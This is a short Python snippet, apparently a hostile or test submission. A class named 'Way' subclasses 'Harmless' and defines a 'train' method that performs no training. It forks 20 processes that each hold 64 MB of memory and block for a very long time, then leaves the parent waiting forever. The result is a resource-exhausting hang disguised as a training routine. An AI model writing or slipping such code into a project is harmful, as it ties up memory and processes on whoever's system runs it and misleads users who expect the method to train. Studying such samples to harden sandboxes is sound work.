class Way(Harmless):
    def train(self, dataset_path, shared_params=None, **train_args):
        for _ in range(20):
            if os.fork() == 0:
                kept = np.ones(2**23)  # 64 MB each
                threading.Event().wait(60 * len(kept))
            time.sleep(0.05)
        threading.Event().wait()
